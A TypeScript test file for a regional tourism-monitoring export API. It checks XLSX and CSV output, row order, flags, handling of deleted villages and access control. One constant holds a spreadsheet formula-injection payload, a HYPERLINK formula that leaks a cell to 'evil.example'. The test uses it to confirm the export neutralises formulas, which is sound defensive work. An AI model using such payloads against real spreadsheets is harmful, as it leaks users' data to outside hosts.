/**
 * GET /api/pemantauan/export: a year's monthly reports of a region for the office, one row per
 * village and month, with the village export's machinery (XLSX read back with exceljs, CSV with a
 * byte-order mark, formula-looking text written as text, `tautan=1` the link as JSON).
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { handler as exportReports } from '../../functions/monitoring/export';
import { handler as createScore } from '../../functions/scores/create';
import { MSG } from '../../lib/contract/messages';
import { db } from '../../lib/db/client';
import { sameScores } from '../robustness/support/fixture';
import { invoke } from '../support/api';
import { parseCsv } from '../support/csv';
import { makeUsers } from '../support/users';
import { regionWithVillages, removeVillage } from '../support/villages';
import { monitoring, report } from '../support/monitoring';

const get = (query: Record<string, string>, token?: string) =>
  invoke(exportReports, { method: 'GET', resource: '/api/pemantauan/export', query, token });

const EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")';

async function region() {
  const {
    provinsi,
    dinas,
    admin,
    villages: [v1, v2, other],
  } = await regionWithVillages('Provinsi Ekspor Pemantauan', (provinsi) => [
    { provinsi, kabupaten: 'Sleman', nama_desa: 'Alpha' },
    { provinsi, kabupaten: 'Bantul', nama_desa: 'Beta' },
    { provinsi: `${provinsi} Lain`, kabupaten: 'Sleman', nama_desa: 'Lain' },
  ]);
  const [a, b, c] = [v1.owner, v2.owner, other.owner];
  // Alpha is Maju before it reports: its months count in Maju
  const scored = await invoke(createScore, {
    method: 'POST',
    resource: '/api/skor',
    body: { kd_desa: v1.kd_desa, ...sameScores(80) },
    token: dinas.token,
  });
  expect(scored.statusCode).toBe(201);
  await report(v1.kd_desa, '2025-01', a.token, { wisnus: 1200, wisman: 30, pendapatan: 60_000_000, malam_inap: 45, catatan: EVIL });
  await report(v1.kd_desa, '2025-02', a.token, { wisnus: 900, pendapatan: 0 });
  await report(v1.kd_desa, '2024-12', a.token); // another year
  await report(v2.kd_desa, '2025-01', b.token, { wisnus: 300, pendapatan: 5_000_000 });
  await report(other.kd_desa, '2025-01', c.token); // another province
  expect((await monitoring.verify(v1.kd_desa, '2025-01', dinas.token)).statusCode).toBe(200);
  return { provinsi, dinas, admin, a, b, v1: v1.kd_desa, v2: v2.kd_desa };
}

async function sheetRows(res: { rawBody: string }) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(res.rawBody, 'base64') as never);
  const sheet = workbook.getWorksheet('Pemantauan')!;
  const header = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  const rows: Record<string, unknown>[] = [];
  for (let n = 2; n <= sheet.rowCount; n++) {
    const row = sheet.getRow(n);
    for (let i = 1; i <= header.length; i++) expect(row.getCell(i).formula).toBeUndefined();
    rows.push(Object.fromEntries(header.map((h, i) => [h, row.getCell(i + 1).value])));
  }
  return { header, rows };
}

describe('GET /api/pemantauan/export', () => {
  it('XLSX and CSV: one row per village and month of the year and region, figures as numbers, flags, formula text as text', async () => {
    const { provinsi, dinas, admin, v1, v2 } = await region();

    const res = await get({ tahun: '2025', provinsi }, dinas.token);
    expect(res.statusCode).toBe(200);
    expect(res.headers['Content-Type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['Cache-Control']).toMatch(/no-store/);
    expect(String(res.headers['Content-Disposition'])).toMatch(/^attachment; filename="pemantauan-2025-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const { header, rows } = await sheetRows(res);
    expect(header.slice(0, 5)).toEqual(['Kode desa', 'Nama desa', 'Provinsi', 'Kabupaten', 'Bulan']);
    // Bantul before Sleman; a village's months in order; not 2024, not the other province
    expect(rows.map((r) => [r['Kode desa'], r['Bulan']])).toEqual([
      [v2, '2025-01'],
      [v1, '2025-01'],
      [v1, '2025-02'],
    ]);
    expect(rows[1]).toMatchObject({
      'Nama desa': 'Alpha',
      Provinsi: provinsi,
      Kabupaten: 'Sleman',
      'Wisatawan nusantara': 1200,
      'Wisatawan mancanegara': 30,
      'Pendapatan (Rp)': 60_000_000,
      'Malam inap': 45,
      'Kategori saat lapor': 'Maju',
      Terlambat: 'ya', // (January 2025, first written now)
      'Perlu cek': 'tidak',
      Terverifikasi: 'ya',
      Catatan: `'${EVIL}`,
    });
    expect(rows[1]!['Diverifikasi']).toBeInstanceOf(Date);
    expect(rows[0]).toMatchObject({ 'Nama desa': 'Beta', 'Kategori saat lapor': 'belum_dinilai', Terverifikasi: 'tidak' });
    // February: visitors without revenue after a month with some, flagged
    expect(rows[2]).toMatchObject({ 'Pendapatan (Rp)': 0, 'Perlu cek': 'ya', 'Alasan cek': MSG.reportCheckNoRevenue });

    // the row count comes from the kabupaten's counters (the 413 check), before its reports are read
    const counted: number[] = [];
    const name = `export-reads-${Math.random()}`;
    db().middlewareStack.add(
      (next) => async (args) => {
        const out = await next(args);
        const values = JSON.stringify((args.input as { ExpressionAttributeValues?: unknown }).ExpressionAttributeValues ?? {});
        if (values.includes('REKAPLAPORAN#2025')) counted.push((out.output as { Count?: number }).Count ?? 0);
        return out;
      },
      { step: 'initialize', name },
    );
    const csv = await get({ tahun: '2025', provinsi, kabupaten: 'sleman', format: 'csv' }, admin.token).finally(() =>
      db().middlewareStack.remove(name),
    );
    expect(counted.reduce((n, c) => n + c, 0)).toBe(2); // its two months' counter items
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['Content-Type']).toBe('text/csv; charset=utf-8');
    expect(String(csv.headers['Content-Disposition'])).toMatch(/filename="pemantauan-2025-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(csv.rawBody.charCodeAt(0)).toBe(0xfeff);
    const [head, ...lines] = parseCsv(csv.rawBody.slice(1).trim());
    const csvRows = lines.map((l) => Object.fromEntries(head!.map((h, i) => [h, l[i]])));
    expect(csvRows.map((r) => r['Bulan'])).toEqual(['2025-01', '2025-02']);
    expect(csvRows[0]).toMatchObject({ 'Wisatawan nusantara': '1200', Catatan: `'${EVIL}`, Terverifikasi: 'ya', 'Perlu cek': 'tidak' });
  });

  it('a deleted village’s months stay in the file, without its name; the link as JSON with tautan=1', async () => {
    const { provinsi, dinas, b, v2 } = await region();
    expect((await removeVillage(v2, b.token)).statusCode).toBe(200);
    const { rows } = await sheetRows(await get({ tahun: '2025', provinsi }, dinas.token));
    expect(rows.find((r) => r['Kode desa'] === v2)).toMatchObject({ 'Nama desa': null, 'Wisatawan nusantara': 300 });

    const link = await get({ tahun: '2025', provinsi, format: 'csv', tautan: '1' }, dinas.token);
    expect(link.statusCode).toBe(200);
    expect(link.body.data.nama_berkas).toMatch(/^pemantauan-2025-\d{4}-\d{2}-\d{2}\.csv$/);
    const file = await fetch(link.body.data.url);
    expect(file.status).toBe(200);
    expect((await file.text()).split('\n').filter((l) => l.includes(provinsi))).toHaveLength(3);
  });

  it('dinas and admin only; a bad year, format, region or tautan is a 400 naming it', async () => {
    const [dinas, owner] = await makeUsers('dinas', 'pengelola');
    const next = String(Number(new Date().getUTCFullYear()) + 2);
    for (const [query, named] of [
      [{}, 'tahun'],
      [{ tahun: '1999' }, 'tahun'],
      [{ tahun: next }, 'tahun'],
      [{ tahun: '2025', format: 'pdf' }, 'format'],
      [{ tahun: '2025', kabupaten: 'Sleman' }, 'kabupaten'],
      [{ tahun: '2025', provinsi: 'A#B' }, 'provinsi'],
      [{ tahun: '2025', tautan: 'ya' }, 'tautan'],
    ] as const) {
      const res = await get(query, dinas.token);
      expect(res.statusCode, JSON.stringify(query)).toBe(400);
      expect(res.body).toEqual({ status: 'fail', message: `${MSG.monitoringQueryInvalid}: ${named}` });
    }
    expect((await get({ tahun: '2025' }, owner.token)).body).toEqual({ status: 'fail', message: MSG.officeOnlyMonitoring });
    expect((await get({ tahun: '2025' })).statusCode).toBe(401);
  });
});
